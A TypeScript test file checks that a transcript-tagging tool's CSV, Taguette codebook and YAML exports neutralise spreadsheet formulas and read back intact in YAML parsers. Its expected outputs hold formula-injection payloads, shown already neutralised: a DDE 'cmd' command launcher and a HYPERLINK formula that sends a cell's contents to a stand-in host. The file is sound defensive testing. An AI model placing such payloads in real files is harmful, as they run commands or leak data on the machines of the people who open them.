/**
 * What the real readers of our exports expect, checked on what we write: a
 * spreadsheet must see no formula in a CSV cell, YAML 1.1 and 1.2 readers must
 * read the YAML export back to the same strings (PyYAML itself when it is
 * installed), Taguette must find its `tag` and `description` columns.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parseDocument } from 'yaml';
import { csvField, writeCsv, writeTaguetteCodebook } from '../../src/core/export/csv';
import { writeYaml } from '../../src/core/export/yaml';
import { HOSTILE, hostileCorpus, hostileTags, readCsv } from './exportFixtures';
import { scratchFolder } from './scratch';

const dir = scratchFolder('transcript-readers-');

/** Cells a spreadsheet takes for a formula (LibreOffice and Excel). */
const FORMULA = /^[=+\-@\t\r]/;

describe('export: CSV as spreadsheets read it', () => {
  it('puts a quote mark before every text cell that would start a formula', () => {
    assert.equal(csvField('=1+1', true), "'=1+1");
    assert.equal(csvField('+40%', true), "'+40%");
    assert.equal(csvField('-12%', true), "'-12%");
    assert.equal(csvField('@ines', true), "'@ines");
    assert.equal(csvField('\tx', true), "'\tx");
    assert.equal(csvField('\rx', true), '"\'\rx"');
    assert.equal(csvField('a = b', true), 'a = b');
    assert.equal(csvField(-1, true), '-1');
  });

  it('neutralises a formula after leading spaces, tabs, no-break and other Unicode spaces', () => {
    for (const lead of [' ', '   ', '\u00a0', '\u2003', '\u3000', '\u202f', '\u200b', '\ufeff', ' \u00a0 ']) {
      assert.equal(csvField(`${lead}=1+1`, true), `'${lead}=1+1`, JSON.stringify(lead));
      assert.equal(csvField(`${lead}@SUM(A1)`, true), `'${lead}@SUM(A1)`, JSON.stringify(lead));
    }
  });

  it('leaves text that starts with spaces and then words as it is', () => {
    assert.equal(csvField('  the rate = 2%', true), '  the rate = 2%');
    assert.equal(csvField('\u00a0Mr Price', true), '\u00a0Mr Price');
  });

  it('reads back with no formula in any cell, and the words after the quote mark intact', () => {
    const rows = readCsv(writeCsv(hostileCorpus().corpus, { bom: false }));
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA, `a formula cell: ${JSON.stringify(cell)}`);
    const byId = new Map(rows.slice(1).map((r) => [r[13], r]));
    const sum = byId.get('t-000000e1')!;
    assert.equal(sum[7], "'=SUM(A1:A9)");
    assert.equal(sum[8], '\'=HYPERLINK("http://example.invalid/?"&A1,"click me")');
    const parks = byId.get('t-000000e2')!;
    assert.deepEqual([parks[7], parks[8], parks[9], parks[10]], ["'+40% on parks", "'-1+1", "'=1+1", "'+https://example.org/x"]);
    assert.equal(byId.get('t-000000e3')![8], "'\tleading tab");
  });

  it('writes the words as they are when neutralising is turned off, for pipelines', () => {
    const rows = readCsv(writeCsv(hostileCorpus().corpus, { bom: false, neutraliseFormulas: false }));
    const sum = rows.find((r) => r[13] === 't-000000e1')!;
    assert.equal(sum[7], '=SUM(A1:A9)');
  });
});

describe('export: Taguette codebook', () => {
  it('has the tag and description columns Taguette imports, one row per category, no byte-order mark', () => {
    const text = writeTaguetteCodebook(hostileCorpus().corpus, { bom: false });
    assert.ok(text.startsWith('tag,description\r\n'));
    const rows = readCsv(text);
    assert.deepEqual(rows[1], ['Factual claim', 'A statement of fact that can be checked.']);
    assert.deepEqual(rows.at(-1), ["'=cmd|' /C calc'!A0", "'-2+3"]);
    assert.equal(rows.length, 1 + hostileCorpus().corpus.categories.length);
  });
});

/** YAML 1.1's printable set (PyYAML's check), less what readers fold (NEL, LS, PS) and the byte-order mark. */
const YAML_SAFE = /^(?:[\t\n\x20-\x7e\xa0-\u2027\u202a-\ud7ff\ue000-\ufefe\uff00-\ufffd]|[\ud800-\udbff][\udc00-\udfff])*$/;

describe('export: YAML as YAML 1.1 and 1.2 readers read it', () => {
  const yaml = writeYaml(hostileCorpus().corpus);

  it('holds only characters YAML 1.1 readers accept and do not fold', () => {
    const bad = [...yaml].filter((c) => !YAML_SAFE.test(c)).map((c) => `U+${c.codePointAt(0)!.toString(16).padStart(4, '0')}`);
    assert.deepEqual(bad, []);
  });

  it('reads back with a strict YAML 1.2 parser to the very strings of the transcript and sidecar', () => {
    const doc = parseDocument(yaml, { version: '1.2', schema: 'core', strict: true, uniqueKeys: true, prettyErrors: false });
    assert.deepEqual(doc.errors.map((e) => e.message), []);
    assert.deepEqual(doc.warnings.map((e) => e.message), []);
    const data = doc.toJS() as { documents: Array<{ tags: Array<{ id: string; quote: string; note?: string; author?: string }> }> };
    const tags = data.documents[0]!.tags;
    const expected = hostileTags();
    for (const want of expected) {
      const got = tags.find((t) => t.id === want.id)!;
      assert.equal(got.quote, want.quote);
      assert.equal(got.note, want.note);
      assert.equal(got.author, want.author);
    }
    assert.ok(HOSTILE.includes(tags[2]!.quote));
  });

  it('is read by PyYAML, the reader of the README’s Python example, to the same strings', (t) => {
    const probe = spawnSync('python3', ['-c', 'import yaml'], { encoding: 'utf8' });
    if (probe.error || probe.status !== 0) {
      t.skip('python3 with PyYAML is not installed (apt-get install python3-yaml); PyYAML is not run.');
      return;
    }
    const file = join(dir, 'tags.yaml');
    writeFileSync(file, yaml);
    const script = [
      'import json, sys, yaml',
      'data = yaml.safe_load(open(sys.argv[1], encoding="utf-8"))',
      // Lone surrogates cannot go through UTF-8: they come back as their escapes, which JSON reads as they were.
      'sys.stdout.write(json.dumps([[t["id"], t["quote"], t.get("note"), t.get("author")] for t in data["documents"][0]["tags"]]))',
    ].join('\n');
    const run = spawnSync('python3', ['-c', script, file], { encoding: 'utf8' });
    assert.equal(run.status, 0, `PyYAML refused the export:\n${run.stderr}`);
    const read = JSON.parse(run.stdout) as Array<[string, string, string | null, string | null]>;
    for (const want of hostileTags()) {
      const got = read.find((r) => r[0] === want.id)!;
      assert.deepEqual(got.slice(1), [want.quote, want.note ?? null, want.author ?? null]);
    }
  });
});
